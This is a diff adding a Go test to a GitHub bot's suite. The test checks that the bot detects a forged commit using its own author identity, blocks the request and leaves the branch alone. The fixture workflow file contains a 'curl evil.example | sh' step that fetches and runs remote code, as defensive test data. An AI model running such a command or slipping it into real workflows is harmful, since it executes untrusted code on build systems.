@@ -430,3 +430,37 @@ func TestEditAfterMerge(t *testing.T) {
 		t.Errorf("an edit after merge opened another pull request")
 	}
 }
+
+// A member pushes a commit that claims to be the bot's (author rdsbot[bot],
+// rdsbot's own e-mail) adding a workflow: rdsbot does not take it for its
+// own, keeps nothing of it, and blocks the request naming the file.
+func TestForgedBotCommitBlocks(t *testing.T) {
+	s := start(t, Options{})
+	n := openOrders(t, s, Requester, ordersAnswers)
+	settle(t, s)
+	pr := requestPulls(s)[0]
+	cs, err := s.Fake.Commits(s.Repo, pr.Head)
+	if err != nil || len(cs) == 0 {
+		t.Fatal(err)
+	}
+	bot := cs[0].Author // the bot's own signature, as on its commits
+	if _, err := s.Fake.As(Platform).Push(s.Repo, pr.Head, githubfake.Change{
+		Files:  map[string]string{".github/workflows/x.yml": "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil.example | sh'}]}}\n"},
+		Author: &bot, Message: "Update request",
+	}); err != nil {
+		t.Fatal(err)
+	}
+	settle(t, s)
+	st := plain(statusOf(s, n))
+	if !strings.Contains(st, "changed by someone else") || !strings.Contains(st, ".github/workflows/x.yml") {
+		t.Errorf("status after a forged bot commit:\n%s", st)
+	}
+	if _, err := s.Fake.As(Requester).Comment(s.Repo, n, "/rds status"); err != nil {
+		t.Fatal(err)
+	}
+	settle(t, s)
+	head := s.Fake.BranchSHA(s.Repo, pr.Head)
+	if cs2, _ := s.Fake.Commits(s.Repo, pr.Head); cs2[0].SHA != head || cs2[0].Author.Name != bot.Name {
+		t.Errorf("rdsbot wrote over the branch: head %s", head)
+	}
+}
